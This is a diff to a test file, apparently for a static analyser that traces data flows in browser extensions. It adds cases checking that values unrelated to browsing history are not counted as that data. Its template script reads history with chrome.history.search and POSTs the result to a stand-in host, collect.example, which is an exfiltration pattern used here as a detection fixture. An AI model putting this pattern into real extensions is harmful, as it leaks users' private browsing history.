@@ -31,6 +31,22 @@ test.each([
     'another object store',
     'db.transaction("a").objectStore("a").put(rows); const data = await db.transaction("b").objectStore("b").get(1);',
   ],
+  [
+    'another property of what a map gives',
+    'const m = new Map(); m.set(1, { q: [], n: 0 }); m.get(1).q.push(rows); const data = m.get(1).n;',
+  ],
+  [
+    'what another class does in place of a method',
+    'class A { out(x) { return this.form(x); } form() { return 1; } } class B { form(x) { return x; } } const data = new A().out(rows);',
+  ],
+  [
+    'another name in the same place',
+    'const App = {}; App.one = (x) => 1; App.two = (x) => x; const data = App.one(rows);',
+  ],
+  [
+    'another reader of files',
+    'const one = new FileReader(); const two = new FileReader(); one.readAsText(new Blob([rows])); const data = two.result;',
+  ],
 ])('does not take for data %s', async (_, body) => {
   const background = `chrome.history.search({ text: '' }, async (rows) => { ${body} fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(data) }); });`;
   const { flows } = (await factsOf(sample({ background }))).whole(flowsOf);
